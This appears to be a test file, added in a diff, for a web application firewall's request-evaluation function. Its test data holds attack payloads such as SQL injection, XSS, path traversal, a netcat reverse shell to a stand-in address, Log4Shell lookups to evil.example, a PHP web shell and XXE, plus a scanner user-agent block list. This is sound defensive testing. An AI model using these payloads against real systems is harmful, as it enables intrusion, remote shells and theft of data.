@@ -1,0 +1,248 @@
+/**
+ * The security filter's decision function (`src/lib/waf`) on its own: rule kinds, rule order,
+ * protocol limits, normalisation, each attack class in different request parts, and ordinary
+ * inputs that must pass. The middleware around it is tested in waf.test.ts.
+ */
+// zod-openapi must extend zod before the config schema is built (as src/app.ts does first).
+import "@hono/zod-openapi";
+import { describe, expect, it } from "vitest";
+import { edgeConfigSchema } from "../../src/lib/config/schema.ts";
+import { compileNetwork, evaluateRequest, PROTOCOL_LIMITS, type SecurityConfig, type WafRequest } from "../../src/lib/waf/index.ts";
+import { normalizeValue, percentDecode } from "../../src/lib/waf/normalize.ts";
+
+const security = (s: Record<string, unknown> = {}): SecurityConfig => edgeConfigSchema.parse({ security: s }).security;
+const DEFAULT = security();
+const BROWSER = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15";
+
+interface Req {
+  method?: string;
+  url?: string;
+  headers?: Record<string, string>;
+  ip?: string | null;
+  country?: string | null;
+  asn?: number | null;
+  body?: string;
+}
+
+function req(r: Req = {}): WafRequest {
+  return {
+    method: r.method ?? "GET",
+    url: r.url ?? "https://edge.test/v1/products?page=2",
+    headers: new Headers({ "user-agent": BROWSER, ...r.headers }),
+    visitor: { ip: r.ip === undefined ? "203.0.113.7" : r.ip, country: r.country === undefined ? "DE" : r.country, asn: r.asn === undefined ? 3320 : r.asn },
+    body: r.body ?? null,
+  };
+}
+const evaluate = (r: Req, s = DEFAULT) => evaluateRequest(req(r), s);
+const query = (value: string, name = "q") => evaluate({ url: `https://edge.test/search?${name}=${encodeURIComponent(value)}` });
+const json = (body: unknown) => evaluate({ method: "POST", url: "https://edge.test/v1/items", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
+const form = (body: string) => evaluate({ method: "POST", url: "https://edge.test/contact", headers: { "content-type": "application/x-www-form-urlencoded" }, body });
+
+describe("network rules", () => {
+  it("blocks listed addresses and CIDRs, IPv4 and IPv6, and lets others through", () => {
+    const s = security({ blockedIps: ["198.51.100.7", "203.0.113.0/24", "2001:db8:bad::/48"] });
+    expect(evaluate({ ip: "198.51.100.7" }, s)).toMatchObject({ action: "block", ruleId: "network-blocked-ip", class: "network" });
+    expect(evaluate({ ip: "203.0.113.200" }, s).action).toBe("block");
+    expect(evaluate({ ip: "2001:db8:bad:1::5" }, s).action).toBe("block");
+    expect(evaluate({ ip: "198.51.100.8" }, s).action).toBe("allow");
+    expect(evaluate({ ip: "2001:db8:bee::5" }, s).action).toBe("allow");
+    expect(evaluate({ ip: null }, s).action).toBe("allow");
+  });
+
+  it("an IPv4-mapped IPv6 client cannot bypass an IPv4 rule, and a mapped rule matches the IPv4 client", () => {
+    const s = security({ blockedIps: ["203.0.113.7", "::ffff:198.51.100.0/120"] });
+    for (const ip of ["::ffff:203.0.113.7", "::FFFF:203.0.113.7", "0:0:0:0:0:ffff:cb00:7107", "::ffff:cb00:7107"]) {
+      expect(evaluate({ ip }, s), ip).toMatchObject({ action: "block", ruleId: "network-blocked-ip" });
+    }
+    expect(evaluate({ ip: "198.51.100.99" }, s).action).toBe("block");
+    expect(evaluate({ ip: "198.51.101.1" }, s).action).toBe("allow");
+  });
+
+  it("allowedIps bypass every other rule, even a blocked address and an attack payload", () => {
+    const s = security({ allowedIps: ["192.0.2.0/24"], blockedIps: ["192.0.2.10"], blockedCountries: ["DE"] });
+    const d = evaluate({ ip: "192.0.2.10", url: "https://edge.test/s?q=%27%20OR%201%3D1--" }, s);
+    expect(d).toMatchObject({ action: "allow", ruleId: "network-allowed-ip" });
+    expect(evaluate({ ip: "192.0.3.10" }, s).ruleId).toBe("network-blocked-country");
+  });
+
+  it("blocks countries, ASNs and configured user-agent substrings (case-insensitive)", () => {
+    expect(evaluate({ country: "KP" }, security({ blockedCountries: ["KP"] }))).toMatchObject({ action: "block", ruleId: "network-blocked-country" });
+    expect(evaluate({ country: null }, security({ blockedCountries: ["KP"] })).action).toBe("allow");
+    expect(evaluate({ asn: 64496 }, security({ blockedAsns: [64496] }))).toMatchObject({ action: "block", ruleId: "network-blocked-asn" });
+    expect(evaluate({ asn: 64497 }, security({ blockedAsns: [64496] })).action).toBe("allow");
+    const ua = security({ blockedUserAgents: ["BadBot"] });
+    expect(evaluate({ headers: { "user-agent": "Mozilla/5.0 (compatible; badbot/2.1)" } }, ua)).toMatchObject({ action: "block", ruleId: "user-agent-blocked" });
+    expect(evaluate({}, ua).action).toBe("allow");
+  });
+
+  it("blocks built-in scanners and attack tools by user agent, not browsers, crawlers or HTTP libraries", () => {
+    for (const ua of ["sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Fuzz Faster U Fool v2.1.0", "gobuster/3.6", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]) {
+      expect(evaluate({ headers: { "user-agent": ua } }), ua).toMatchObject({ action: "block", ruleId: "scanner-user-agent", class: "scanner" });
+    }
+    for (const ua of ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/2.0", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Vegas Travel App/1.2", BROWSER]) {
+      expect(evaluate({ headers: { "user-agent": ua } }).action, ua).toBe("allow");
+    }
+  });
+
+  it("compiles the network rules once per config object", () => {
+    const s = security({ blockedIps: ["203.0.113.0/24"] });
+    expect(compileNetwork(s)).toBe(compileNetwork(s));
+    expect(compileNetwork(security({ blockedIps: ["203.0.113.0/24"] }))).not.toBe(compileNetwork(s));
+    expect(compileNetwork(security({ blockedIps: ["not-an-ip", "10.0.0.0/33"] })).invalid).toEqual(["not-an-ip", "10.0.0.0/33"]);
+  });
+});
+
+describe("custom rules", () => {
+  const s = security({
+    rules: [
+      { id: "log-admin", action: "log", match: { pathPrefix: "/admin" } },
+      { id: "allow-admin-health", action: "allow", match: { pathPrefix: "/admin/health" } },
+      { id: "block-admin", action: "block", match: { pathPrefix: "/admin" } },
+      { id: "block-delete-fr", action: "block", match: { methods: ["DELETE"], countries: ["FR"] } },
+      { id: "block-legacy-client", action: "block", match: { header: { name: "X-Client", contains: "legacy/1." } } },
+      { id: "block-get-reports", action: "block", match: { pathPrefix: "/reports", methods: ["GET"] } },
+    ],
+  });
+
+  it("are evaluated in order: the first allow/block wins, log rules are recorded and evaluation goes on", () => {
+    const blocked = evaluate({ url: "https://edge.test/admin/users" }, s);
+    expect(blocked).toMatchObject({ action: "block", ruleId: "block-admin", class: "custom" });
+    expect(blocked.matches.map((m) => m.ruleId)).toEqual(["log-admin", "block-admin"]);
+    const allowed = evaluate({ url: "https://edge.test/admin/health?q=%27%20OR%201%3D1--" }, s);
+    expect(allowed).toMatchObject({ action: "allow", ruleId: "allow-admin-health" });
+    expect(allowed.matches.map((m) => m.ruleId)).toEqual(["log-admin", "allow-admin-health"]);
+  });
+
+  it("a log-only match logs the request and an attack after it is still blocked", () => {
+    const onlyLog = security({ rules: [{ id: "watch-export", action: "log", match: { pathPrefix: "/export" } }] });
+    expect(evaluate({ url: "https://edge.test/export?page=1" }, onlyLog)).toMatchObject({ action: "log", ruleId: "watch-export", class: "custom" });
+    expect(evaluate({ url: "https://edge.test/export?id=1%20UNION%20SELECT%20password%2C1%20FROM%20users" }, onlyLog)).toMatchObject({ action: "block", class: "sqli" });
+  });
+
+  it("match method, country, header and the decoded path; GET rules cover HEAD", () => {
+    expect(evaluate({ method: "DELETE", url: "https://edge.test/v1/x", country: "FR" }, s).ruleId).toBe("block-delete-fr");
+    expect(evaluate({ method: "DELETE", url: "https://edge.test/v1/x", country: "DE" }, s).action).toBe("allow");
+    expect(evaluate({ method: "GET", url: "https://edge.test/v1/x", country: "FR" }, s).action).toBe("allow");
+    expect(evaluate({ headers: { "x-client": "Legacy/1.4 (android)" } }, s).ruleId).toBe("block-legacy-client");
+    expect(evaluate({ headers: { "x-client": "modern/2.0" } }, s).action).toBe("allow");
+    expect(evaluate({ url: "https://edge.test/%61dmin/users" }, s).ruleId).toBe("block-admin");
+    expect(evaluate({ method: "HEAD", url: "https://edge.test/reports/1" }, s).ruleId).toBe("block-get-reports");
+    expect(evaluate({ method: "POST", url: "https://edge.test/reports/1" }, s).action).toBe("allow");
+  });
+});
+
+describe("protocol limits", () => {
+  it("refuses methods outside the API's (TRACE, TRACK, CONNECT, DEBUG, WebDAV)", () => {
+    for (const method of ["TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND"]) {
+      expect(evaluate({ method }), method).toMatchObject({ action: "block", ruleId: "protocol-method-not-allowed", class: "protocol" });
+    }
+    for (const method of ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"]) expect(evaluate({ method }).action, method).toBe("allow");
+  });
+
+  it("refuses malformed percent-encoding in the path or query, not valid escapes", () => {
+    expect(evaluate({ url: "https://edge.test/search?q=100%" })).toMatchObject({ action: "block", ruleId: "protocol-bad-encoding" });
+    expect(evaluate({ url: "https://edge.test/search?q=%zz" }).ruleId).toBe("protocol-bad-encoding");
+    expect(evaluate({ url: "https://edge.test/files/a%2" }).ruleId).toBe("protocol-bad-encoding");
+    expect(evaluate({ url: "https://edge.test/search?q=100%25%20caf%C3%A9&x=%E9" }).action).toBe("allow");
+  });
+
+  it("refuses over-long URLs, too many query arguments, too many or too large headers", () => {
+    expect(evaluate({ url: `https://edge.test/s?q=${"a".repeat(PROTOCOL_LIMITS.maxUrlLength)}` }).ruleId).toBe("protocol-url-too-long");
+    expect(evaluate({ url: `https://edge.test/s?q=${"a".repeat(PROTOCOL_LIMITS.maxUrlLength - 100)}` }).action).toBe("allow");
+    const args = (n: number) => Array.from({ length: n }, (_, i) => `a${i}=1`).join("&");
+    expect(evaluate({ url: `https://edge.test/s?${args(PROTOCOL_LIMITS.maxQueryArgs + 1)}` }).ruleId).toBe("protocol-too-many-args");
+    expect(evaluate({ url: `https://edge.test/s?${args(PROTOCOL_LIMITS.maxQueryArgs)}` }).action).toBe("allow");
+    const many = Object.fromEntries(Array.from({ length: PROTOCOL_LIMITS.maxHeaders }, (_, i) => [`x-h${i}`, "1"]));
+    expect(evaluate({ headers: many }).ruleId).toBe("protocol-too-many-headers");
+    expect(evaluate({ headers: { "x-big": "a".repeat(PROTOCOL_LIMITS.maxHeaderBytes) } }).ruleId).toBe("protocol-headers-too-large");
+  });
+});
+
+describe("normalisation", () => {
+  it("decodes repeated percent-encoding, %u, overlong UTF-8, entities, escapes and fullwidth forms", () => {
+    expect(normalizeValue("%253Cscript%253E").text).toBe("<script>");
+    expect(normalizeValue("%u003Csvg%u003E").text).toBe("<svg>");
+    expect(normalizeValue("%c0%ae%c0%ae%c0%af").text).toBe("../");
+    expect(normalizeValue("&lt;img&#x20;src&#61;x&gt;").text).toBe("<img src=x>");
+    expect(normalizeValue("\\u003cb\\x3e").text).toBe("<b>");
+    expect(normalizeValue("＜script＞").text).toBe("<script>");
+    expect(normalizeValue("a%00b")).toEqual({ text: "ab", hadNull: true });
+    expect(percentDecode("caf%C3%A9 100%")).toBe("café 100%");
+  });
+});
+
+describe("payload inspection", () => {
+  const attacks: Array<[string, () => ReturnType<typeof evaluate>]> = [
+    ["sqli", () => query("' OR '1'='1")],
+    ["sqli", () => json({ user: { name: "admin'--" } })],
+    ["sqli", () => form("email=a%40b.c&q=1%20UNION%20ALL%20SELECT%20NULL%2C%40%40version--")],
+    ["sqli", () => evaluate({ headers: { cookie: "uid=1%3B%20DROP%20TABLE%20users--" } })],
+    ["xss", () => query("<svg/onload=alert(1)>")],
+    ["xss", () => json({ comment: "<img src=x onerror=alert(document.cookie)>" })],
+    ["xss", () => evaluate({ headers: { "user-agent": "<script>alert(1)</script>" } })],
+    ["xss", () => query("jav&#x09;ascript:alert(1)", "next")],
+    ["traversal", () => query("....//....//....//etc/passwd", "file")],
+    ["traversal", () => form("doc=%252e%252e%252f%252e%252e%252fetc%252fpasswd")],
+    ["rfi", () => query("http://evil.example/shell.txt?", "page")],
+    ["command", () => query("127.0.0.1; cat${IFS}/etc/passwd", "host")],
+    ["command", () => json({ host: "8.8.8.8 | nc -e /bin/sh 198.51.100.7 4444" })],
+    ["command", () => evaluate({ headers: { "user-agent": "() { :; }; /bin/bash -c id" } })],
+    ["ssrf", () => query("http://169.254.169.254/latest/meta-data/", "url")],
+    ["ssrf", () => json({ webhook: "http://0x7f000001:6379/" })],
+    ["ssrf", () => form("avatar=http%3A%2F%2F%5B%3A%3Affff%3A127.0.0.1%5D%2F")],
+    ["template", () => query("{{7*7}}", "name")],
+    ["template", () => json({ subject: "{{ lipsum.__globals__.os.popen('id').read() }}" })],
+    ["log4shell", () => evaluate({ headers: { "x-api-version": "${${lower:j}ndi:ldap://evil.example/a}" } })],
+    ["log4shell", () => json({ username: "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}" })],
+    ["php", () => query("php://filter/convert.base64-encode/resource=index.php", "page")],
+    ["php", () => form("code=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E")],
+    ["java", () => evaluate({ headers: { cookie: "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC" } })],
+    ["java", () => evaluate({ method: "POST", url: "https://edge.test/import", headers: { "content-type": "application/json" }, body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a"}' })],
+    ["xxe", () => evaluate({ method: "POST", url: "https://edge.test/import", headers: { "content-type": "application/xml" }, body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' })],
+  ];
+  it.each(attacks)("detects %s (%#)", (cls, run) => {
+    const d = run();
+    expect(d.action).toBe("block");
+    expect(d.class).toBe(cls);
+    expect(d.score).toBeGreaterThanOrEqual(5);
+  });
+
+  it("inspects multipart text fields, base64 parts and declared base64 data URLs", () => {
+    const b = "----x1";
+    const multipart = (part: string) =>
+      evaluate({ method: "POST", url: "https://edge.test/upload", headers: { "content-type": `multipart/form-data; boundary=${b}` }, body: `--${b}\r\n${part}\r\n--${b}--\r\n` });
+    expect(multipart('Content-Disposition: form-data; name="bio"\r\n\r\n<script>alert(1)</script>').class).toBe("xss");
+    expect(multipart(`Content-Disposition: form-data; name="note"\r\nContent-Transfer-Encoding: base64\r\n\r\n${btoa("' UNION SELECT password, 1 FROM users--")}`).class).toBe("sqli");
+    expect(multipart('Content-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\nContent-Type: image/png\r\n\r\n\x89PNG').class).toBe("traversal");
+    expect(multipart('Content-Disposition: form-data; name="f"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG <script>').action).toBe("allow");
+    expect(query(`data:text/html;base64,${btoa("<svg onload=alert(1)>")}`, "icon").class).toBe("xss");
+    expect(query(`data:image/png;base64,${btoa("<svg onload=alert(1)>")}`, "icon").action).toBe("allow");
+  });
+
+  it("lets ordinary tricky input through", () => {
+    for (const v of ["O'Brien", "D'Angelo and O'Neil", "rock and roll", "rock 'n' roll", "select committee report", "union station", "50% off shoes", "Ben & Jerry's; cat café", "5'10\" tall", "x < y && y > z", "it's 1 or 2 people", "jane.o'hara+news@example.com", "東京 ラーメン", "Where's the /etc/hosts file on a Mac?", "javascript: void(0)"]) {
+      expect(query(v).action, v).toBe("allow");
+    }
+    expect(query("https://example.com/x?a=1&b=2", "next").action).toBe("allow");
+    expect(query("https://cdn.example.com/report.pdf", "file").action).toBe("allow");
+    expect(json({ title: "Release notes", body: "## Setup\n\n```bash\nnpm install\ncurl -fsSL https://get.example.com | sh\n```\n\nThen open http://localhost:3000 and select a union type." }).action).toBe("allow");
+    expect(form("name=Siobh%C3%A1n+O%27Neill&message=I%27d+like+to+drop+the+reservation%3B+please+update+it.").action).toBe("allow");
+  });
+
+  it("code snippets in JSON: a complete SQL statement is code, a fragment that continues one is injection (documented decision)", () => {
+    expect(json({ language: "sql", code: "SELECT * FROM users WHERE id = 42 ORDER BY created_at DESC LIMIT 20;" }).action).toBe("allow");
+    expect(json({ language: "sql", code: "SELECT name FROM staff UNION SELECT name FROM contractors;" }).action).toBe("allow");
+    expect(json({ language: "sql", code: "SELECT * FROM t WHERE id = 1 OR 1=1" }).action).toBe("allow");
+    expect(json({ language: "js", code: "const total = items.reduce((a, b) => a + b.price, 0); if (a < b && c > d) return;" }).action).toBe("allow");
+    // Fragments that continue someone else's statement, and attack-only functions even in a statement:
+    expect(json({ language: "sql", code: "42 UNION SELECT password, 1 FROM users" }).action).toBe("block");
+    expect(json({ language: "sql", code: "x' OR 1=1 --" }).action).toBe("block");
+    expect(json({ language: "sql", code: "SELECT SLEEP(10)" }).action).toBe("block");
+    expect(json({ language: "sql", code: "SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/s.php'" }).action).toBe("block");
+  });
+
+  it("mode log turns blocks into logged would-be blocks", () => {
+    const d = evaluateRequest(req({ url: "https://edge.test/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" }), security({ mode: "log" }));
+    expect(d).toMatchObject({ action: "log", wouldBlock: true, class: "xss" });
+  });
+});
